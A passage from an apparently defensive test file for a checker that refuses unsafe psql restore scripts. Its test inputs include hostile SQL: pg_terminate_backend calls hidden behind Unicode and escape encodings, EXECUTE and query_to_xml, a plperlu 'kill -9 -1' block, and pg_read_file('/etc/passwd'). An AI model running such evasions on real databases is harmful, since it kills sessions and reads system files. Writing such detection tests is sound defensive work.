    "CREATE FUNCTION public.sync() RETURNS void LANGUAGE sql AS $$ SELECT public.dblink_exec('dbname=x', 'SELECT 1') $$;",
    'CREATE FUNCTION public.kick() RETURNS void LANGUAGE plpgsql AS $body$ BEGIN PERFORM pg_terminate_backend(1); END $body$;',
    "CREATE FUNCTION public.g() RETURNS text LANGUAGE sql\n    BEGIN ATOMIC\n SELECT public.dblink_exec('dbname=x'::text, 'SELECT 1'::text) AS r;\nEND;",
    "CREATE VIEW public.remote AS\n SELECT r.x\n   FROM public.dblink('dbname=x'::text, 'SELECT 1'::text) r(x integer);",
    "ALTER TABLE ONLY public.t ALTER COLUMN f SET DEFAULT public.dblink_exec('dbname=x'::text, 'SELECT 1'::text);",
    // a DO block's code that only mentions them, in its literals and comments
    "DO $$ BEGIN RAISE NOTICE 'dblink_exec(x)'; -- pg_terminate_backend(1)\nEND $$;",
    'DO LANGUAGE plpgsql $b$ BEGIN PERFORM public.f(); /* pg_reload_conf() */ END $b$;',
    "DO U&'BEGIN RAISE NOTICE ''pg\\005fterminate_backend(1)''; END';",
    "DO E'BEGIN RAISE NOTICE \\'pg_terminate\\x5fbackend(1)\\'; END';",
    "DO E'BEGIN PERFORM 1; -- pg_terminate\\x5fbackend(1)\nEND';",
    "SET standard_conforming_strings = off;\nDO 'BEGIN RAISE NOTICE ''pg\\_terminate\\_backend(1)''; END';",
    "DO $a$ BEGIN DO U&'BEGIN RAISE NOTICE ''pg_\\0074erminate_backend(1)''; END'; END $a$;",
    // DO blocks calling nothing of the kind (as the integration tests' set-up writes them)
    'DO $$BEGIN CREATE ROLE ghost NOLOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END$$;',
    "DO E'BEGIN INSERT INTO public.t VALUES (\\'a\\x5fb\\') ON CONFLICT DO NOTHING; END';",
    'DO LANGUAGE "plpgsql" U&\'BEGIN PERFORM public.f(); END\';',
    "DO 'BEGIN PERFORM public.f(); END' LANGUAGE PLPGSQL;",
    // a function named like one, of the backup's own, in a DO's string: no call of it
    "DO 'BEGIN PERFORM public.pg_terminate_backend_log(1); END';",
    // a literal, a comment
    "SELECT 'dblink_exec(''dbname=x'', ''y'')';",
    "INSERT INTO public.log VALUES (1, 'SELECT pg_terminate_backend(42)');",
    "SELECT 1; -- dblink_exec('dbname=x', 'y')",
    'SELECT /* pg_reload_conf() */ 1;',
    // named so, not called
    'CREATE TABLE public.dblink (dblink integer, pg_reload_conf text);',
    'SELECT dblink, pg_reload_conf FROM public.dblink;',
    'INSERT INTO public.dblink (dblink) VALUES (1);',
    'COPY public.dblink_log (dblink_exec) FROM stdin;\n1\n\\.',
    'ALTER TABLE ONLY public.t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES public.dblink(dblink);',
    // a function of the backup's own named like the server's (not pg_catalog's), altered
    'ALTER FUNCTION public.pg_reload_conf() OWNER TO app;',
    // pg_dump's own calls
    "SELECT pg_catalog.setval('public.s', 42, true);",
    "SELECT pg_catalog.set_config('search_path', '', false);"
  ])('passes %s', sql => {
    expect(found(sql)).toBeUndefined()
    expect(refused(sql)).toEqual([])
  })
})

describe("psql script rules: a DO block's code that cannot be read as the server will (attacker a84 F1)", () => {
  it.each([
    ["DO E'BEGIN PERFORM pg\\u00terminate_backend(1); END';", /no Unicode escape/],
    ["DO E'BEGIN PERFORM 1; END\\xc3';", /no UTF-8 text/],
    ["DO U&'BEGIN PERFORM pg\\00terminate_backend(1); END';", /no Unicode escape/],
    ["DO U&'BEGIN PERFORM 1; END' UESCAPE 'a';", /no escape character/],
    [
      "SET standard_conforming_strings = off;\nDO U&'BEGIN PERFORM 1; END';",
      /standard_conforming_strings off/
    ],
    [
      "DO LANGUAGE plperlu 'system(q{kill -9 -1})';",
      /LANGUAGE plperlu, which this check cannot read/
    ],
    ["DO 'BEGIN PERFORM 1; END' LANGUAGE 'plpython3u';", /LANGUAGE plpython3u/],
    [
      "DO $$ BEGIN DO LANGUAGE plv8 'plv8.execute(1)'; END $$;",
      /a DO block in its code: .*LANGUAGE plv8/
    ],
    ["DO B'1';", /B'…', X'…' or N'…'/],
    ['DO (1);', /more than its code and LANGUAGE/]
  ])('refuses %s', (sql, why) => {
    const r = refusals(lexPsqlScript(sql)).find(x => x.code === 'unreadable-code')
    expect(r?.message).toMatch(why)
    expect(r?.message).toMatch(
      /^line \d+: a DO block runs its code now, and this check cannot read that code as the server will: .*pg_dump never writes a DO block \(psql by hand would run it\)\. .*the script is refused before anything runs$/
    )
  })

  it.each([
    'DO $$ BEGIN NULL; END $$;',
    "DO LANGUAGE plpgsql 'BEGIN NULL; END';",
    "DO E'BEGIN RAISE NOTICE \\'\\u00e9\\'; END';"
  ])('reads %s', sql => {
    expect(refused(sql)).toEqual([])
  })
})

describe('psql script rules: the query a function runs now from its string argument (attacker a84 F2)', () => {
  const KILL = 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = current_user'

  it.each([
    [`SELECT query_to_xml('${KILL}', true, false, '');`, 'query_to_xml'],
    [
      `SELECT pg_catalog.query_to_xml_and_xmlschema('${KILL}'::text, true, false, '');`,
      'pg_catalog.query_to_xml_and_xmlschema'
    ],
    [`SELECT query_to_xmlschema($q$${KILL}$q$, true, false, '');`, 'query_to_xmlschema'],
    [`SELECT * FROM ts_stat('SELECT to_tsvector(pg_terminate_backend(1)::text)');`, 'ts_stat'],
    [
      `SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, pg_terminate_backend(1)::text::tsquery');`,
      'ts_rewrite'
    ],
    // the literal read as the server reads it: E'…', U&'…' [UESCAPE], std off, continued
    [
      "SELECT query_to_xml(E'SELECT pg_terminate\\x5fbackend(pid) FROM pg_stat_activity WHERE application_name = \\'victim\\'', true, false, '');",
      'query_to_xml'
    ],
    [
      "SELECT query_to_xml(U&'SELECT pg_\\0074erminate_backend(1)', true, false, '');",
      'query_to_xml'
    ],
    [
      "SELECT query_to_xml(U&'SELECT pg_!0074erminate_backend(1)' UESCAPE '!', true, false, '');",
      'query_to_xml'
    ],
    [
      "SET standard_conforming_strings = off;\nSELECT query_to_xml('SELECT pg\\_terminate\\_backend(1)', true, false, '');",
      'query_to_xml'
    ],
    ["SELECT query_to_xml('SELECT pg_termi'\n'nate_backend(1)', true, false, '');", 'query_to_xml'],
    // a name quoted or spelled in U&"…", the query in a query, in a DO block's code
    [`SELECT "QUERY_TO_XML"('${KILL}', true, false, '');`, 'query_to_xml'],
    [`SELECT U&"query\\005fto\\005fxml"('${KILL}', true, false, '');`, 'query_to_xml'],
    [
      "SELECT query_to_xml($a$SELECT query_to_xml('SELECT pg_terminate_backend(1)', true, false, '')$a$, true, false, '');",
      'query_to_xml'
    ],
    [
      "DO $$ BEGIN PERFORM query_to_xml('SELECT pg_terminate_backend(1)', true, false, ''); END $$;",
      'query_to_xml'
    ],
    [
      `CREATE TABLE public.x AS SELECT query_to_xml('${KILL}', true, false, '') AS r;`,
      'query_to_xml'
    ]
  ])('refuses %s', (sql, via) => {
    const r = refusals(lexPsqlScript(sql)).find(x => x.code === 'outside-transaction')
    expect(r?.message).toMatch(
      new RegExp(
        `^line \\d+: pg_terminate_backend\\(\\) \\(in the query ${via.replace(/\./g, '\\.')}\\(\\) runs now\\) ends or interrupts another session`
      )
    )
  })

  it.each([
    "DO $$ BEGIN EXECUTE 'SELECT pg_terminate_backend(1)'; END $$;",
    "DO $$ DECLARE n int; BEGIN EXECUTE E'SELECT count(pg_terminate\\x5fbackend(pid)) FROM pg_stat_activity' INTO n; END $$;",
    "DO $$ BEGIN EXECUTE $q$SELECT query_to_xml('SELECT pg_terminate_backend(1)', true, false, '')$q$; END $$;"
  ])("refuses PL/pgSQL's EXECUTE of a string constant in a DO block's code: %s", sql => {
    const r = refusals(lexPsqlScript(sql)).find(x => x.code === 'outside-transaction')
    expect(r?.message).toMatch(
      /^line 1: pg_terminate_backend\(\) \(in the query (EXECUTE|query_to_xml\(\)) runs now\) ends or interrupts another session/
    )
  })

  it('reads the file functions in such a query too', () => {
    const r = refusals(
      lexPsqlScript("SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, false, '');")
    ).find(x => x.code === 'file-function')
    expect(r?.message).toMatch(
      /^line 1: pg_read_file\(\) \(in the query query_to_xml\(\) runs now\) reads or writes a file/
    )
    expect(
      refusals(
        lexPsqlScript("SELECT query_to_xml('SELECT * FROM pg_hba_file_rules', true, false, '');")
      ).find(x => x.code === 'file-function')?.message
    ).toMatch(/pg_hba_file_rules \(in the query query_to_xml\(\) runs now\) reads the database/)
  })

  it.each([
    [
      `SELECT query_to_xml('SELECT pg_terminate_' || 'backend(1)', true, false, '');`,
      'query_to_xml',
      /is no string constant/
    ],
    [
      "SELECT query_to_xml(format('SELECT %s(1)', 'pg_terminate_backend'), true, false, '');",
      'query_to_xml',
      /is no string constant/
    ],
    ["SELECT query_to_xml(q, true, false, '') FROM public.queries;", 'query_to_xml', /no string/],
    ['SELECT * FROM ts_stat(public.q());', 'ts_stat', /no string constant/],
    ["SELECT ts_rewrite('a'::tsquery, q) FROM public.rules;", 'ts_rewrite', /no string constant/],
    ["SELECT query_to_xml(text 'SELECT 1', true, false, '');", 'query_to_xml', /no string/],
    ["SELECT query_to_xml(E'SELECT \\xc3', true, false, '');", 'query_to_xml', /no UTF-8 text/],
    ["SELECT query_to_xml(N'SELECT 1', true, false, '');", 'query_to_xml', /N'…'/],
    [
      "DO $$ DECLARE q text := 'SELECT 1'; BEGIN PERFORM query_to_xml(q, true, false, ''); END $$;",
      'query_to_xml',
      /no string constant/
    ],
    [
      "SELECT query_to_xml($a$SELECT query_to_xml(current_setting('x.q'), true, false, '')$a$, true, false, '');",
      'query_to_xml',
      /no string constant/
    ]
  ])('cannot check %s', (sql, call, why) => {
    const r = refusals(lexPsqlScript(sql)).find(x => x.code === 'unreadable-code')
    expect(r?.message).toMatch(why)
    expect(r?.message).toMatch(
      new RegExp(
        `^line \\d+: ${call}\\(\\) runs the query given to it as text now, and this check cannot read that query as the server will: .*pg_dump never writes a call of it \\(psql by hand would run it\\)\\. .*the script is refused before anything runs$`
      )
    )
  })

  it.each([
    "SELECT query_to_xml('SELECT 1', true, false, '');",
    "SELECT query_to_xml(E'SELECT \\'a\\'', true, false, '');",
    "SELECT query_to_xml($$SELECT count(*) FROM public.t$$::text, true, false, '');",
    "SELECT * FROM ts_stat('SELECT tsv FROM public.docs');",
    // ts_rewrite of three tsqueries runs no query
    "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, current_setting('x.q')::tsquery);",
    // the query only mentions such a call, in a literal or a comment
    "SELECT query_to_xml('SELECT ''pg_terminate_backend(1)'' /* pg_read_file() */', true, false, '');",
    // defined, not run now; a table or column so named
    "CREATE VIEW public.v AS\n SELECT query_to_xml(q.q, true, false, ''::text) AS x\n   FROM public.queries q;",
    "CREATE FUNCTION public.f(q text) RETURNS xml LANGUAGE sql AS $$ SELECT query_to_xml(q, true, false, '') $$;",
    'CREATE TABLE public.query_to_xml (ts_stat text);',
    'INSERT INTO public.query_to_xml (ts_stat) VALUES (1);',
    'SELECT ts_stat FROM public.query_to_xml;',
    // EXECUTE of a string constant calling nothing of the kind; one built at run time is not
    // read (README: "nor one built at run time in EXECUTE's string")
    "DO $$ BEGIN EXECUTE 'CREATE TABLE public.t2 (a int)'; END $$;",
    "DO $$ BEGIN EXECUTE 'SELECT pg_terminate_' || 'backend(1)'; END $$;"
  ])('passes %s', sql => {
    expect(refused(sql)).toEqual([])
  })
})

describe('psql script rules: ALTER EXTENSION … ADD and … DROP (attacker a88 F2)', () => {
  const found = (sql: string): Refusal | undefined =>
    refusals(lexPsqlScript(sql)).find(r => r.code === 'extension-member')

  it.each([
    ['ALTER EXTENSION tcn ADD FUNCTION public.users_emails();', 'ALTER EXTENSION tcn ADD'],
    ['ALTER EXTENSION tcn DROP TABLE public.t;', 'ALTER EXTENSION tcn DROP'],
    ['alter extension TCN add function public.f(integer);', 'ALTER EXTENSION tcn ADD'],
    ['ALTER EXTENSION "tcn" ADD FUNCTION "public"."f"();', 'ALTER EXTENSION "tcn" ADD'],
    ['ALTER EXTENSION "My ""Ext""" ADD SCHEMA s;', 'ALTER EXTENSION "My ""Ext""" ADD'],
    ['ALTER EXTENSION U&"tc\\006E" ADD FUNCTION f();', 'ALTER EXTENSION "tcn" ADD'],
    ['ALTER /* c */ EXTENSION\n  tcn -- c\n  ADD VIEW public.v;', 'ALTER EXTENSION tcn ADD'],
    ['ALTER EXTENSION tcn ADD AGGREGATE public.leak(text);', 'ALTER EXTENSION tcn ADD'],
    // in a DO block's code, which runs now: as a statement, in EXECUTE's constant, in a DO in it
    ['DO $$ BEGIN ALTER EXTENSION tcn ADD FUNCTION public.f(); END $$;', 'ALTER EXTENSION tcn ADD'],
    [
      "DO $$ BEGIN EXECUTE 'alter extension tcn drop function public.f()'; END $$;",
      'ALTER EXTENSION tcn DROP'
    ],
    [
      'DO $a$ BEGIN DO $b$ BEGIN EXECUTE \'ALTER EXTENSION "x" ADD TABLE t\'; END $b$; END $a$;',
      'ALTER EXTENSION "x" ADD'
    ]
  ])('refuses %s', (sql, command) => {
    const r = found(sql)
    expect(r?.line).toBe(1)
    expect(r?.message).toContain(`${command} makes an object a member of the extension`)
    expect(r?.message).toMatch(
      /pg_dump never writes it \(but with --binary-upgrade, for pg_upgrade\) \(psql by hand would run it\)\. Restore only scripts made by pg_dump \(or remove the statement if you trust it\)/
    )
    expect(r?.message).toMatch(/; the script is refused before anything runs$/)
  })

  it.each([
    // what pg_dump writes of an extension
    'CREATE EXTENSION IF NOT EXISTS tcn WITH SCHEMA public;',
    "COMMENT ON EXTENSION tcn IS 'Triggered change notifications';",
    'DROP EXTENSION IF EXISTS tcn;',
    // other forms of ALTER EXTENSION are not members added or taken out
    'ALTER EXTENSION tcn UPDATE;',
    'ALTER EXTENSION tcn SET SCHEMA public;',
    // text, a comment, a function's body (run later, if ever)
    "SELECT 'ALTER EXTENSION tcn ADD FUNCTION f()';",
    '-- ALTER EXTENSION tcn ADD FUNCTION f()\nSELECT 1;',
    'CREATE FUNCTION public.f() RETURNS void LANGUAGE sql AS $$ALTER EXTENSION tcn ADD FUNCTION public.g()$$;',
    'CREATE TABLE public.extension (alter int, add int);'
  ])('passes %s', sql => {
    expect(found(sql)).toBeUndefined()
  })
})

describe('psql script rules: statement kinds for the skip rules', () => {
  it.each([
    ['CREATE EXTENSION IF NOT EXISTS citext WITH SCHEMA public;', 'extension', 'citext'],
    ["COMMENT ON EXTENSION citext IS 'x';", 'extension', 'citext'],
    ['ALTER EXTENSION "uuid-ossp" UPDATE;', 'extension', 'uuid-ossp'],
    ['CREATE SCHEMA extensions;', 'schema', undefined],
    ['ALTER TABLE public.t OWNER TO app;', 'owner', 'TABLE'],
    ['ALTER MATERIALIZED VIEW public.v OWNER TO app;', 'owner', 'MATERIALIZED VIEW'],
    ['ALTER FUNCTION public.f(integer) OWNER TO app;', 'owner', 'FUNCTION'],
    ['ALTER LARGE OBJECT 16385 OWNER TO app;', 'owner', 'LARGE OBJECT'],
    ['GRANT SELECT ON TABLE public.t TO reader;', 'privileges', undefined],
    ['REVOKE ALL ON SCHEMA public FROM PUBLIC;', 'privileges', undefined],
    [
      'ALTER DEFAULT PRIVILEGES FOR ROLE app GRANT SELECT ON TABLES TO reader;',
      'default-privileges',
      undefined
    ],
    ['CREATE POLICY p ON public.t TO reader USING (true);', 'policy', undefined],
    [
      'CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f();',
      'event-trigger',
      undefined
    ],
    ['CREATE PUBLICATION pub FOR TABLE public.t;', 'publication', undefined],
    ['ALTER PUBLICATION pub ADD TABLE ONLY public.t;', 'publication', undefined],
    ['SET transaction_timeout = 0;', 'set', 'transaction_timeout'],
    ['SET SESSION AUTHORIZATION app;', 'set', 'session_authorization'],
    ['SET "my.custom" = 1;', 'set', 'my.custom'],
    ['SET my.custom TO 1;', 'set', 'my.custom'],
    ["SELECT pg_catalog.set_config('search_path', '', false);", 'set', 'set_config'],
    ["CREATE DATABASE shop WITH TEMPLATE = template0 ENCODING = 'UTF8';", 'database', undefined],
    ['ALTER DATABASE shop SET search_path TO public;', 'database', undefined],
    ['CREATE ROLE app;', 'role', undefined],
    ['ALTER ROLE app WITH LOGIN;', 'role', undefined],
    ['CREATE USER app;', 'role', undefined],
    ['ALTER USER app WITH LOGIN;', 'role', undefined],
    // a foreign server's user mapping is no role
    ['CREATE USER MAPPING FOR public SERVER s;', 'other', undefined],
    ["ALTER USER MAPPING FOR app SERVER s OPTIONS (user 'x');", 'other', undefined],
    ['COPY public.t (a) FROM stdin;', 'copy', undefined],
    ['CREATE TABLE public."T" (a integer);', 'table', 'public."T"'],
    ['CREATE UNLOGGED TABLE IF NOT EXISTS s.t (a integer);', 'table', 's.t'],
    ["SELECT pg_catalog.lo_open('16385', 131072);", 'large-object', 'lo_open'],
    ["SELECT pg_catalog.lowrite(0, '\\x00');", 'large-object', 'lowrite'],
    ['BEGIN;', 'transaction', 'BEGIN'],
    ['SAVEPOINT s;', 'savepoint', 'SAVEPOINT'],
    ['CREATE VIEW v AS SELECT 1;', 'other', undefined],
    [';', 'empty', undefined]
  ])('%s → %s', (sql, expected, detail) => {
    const c = kind(sql)
    expect([c.kind, c.detail]).toEqual([expected, detail])
  })
})

describe('psql script rules: purity', () => {
  it('passes data, ends and statements of a clean script and refuses nothing twice', () => {
    const events = lexPsqlScript('COPY t FROM stdin;\n\\! no\n\\.\n')
    expect(events.map(e => refusal(e))).toEqual([undefined, undefined, undefined])
  })
})
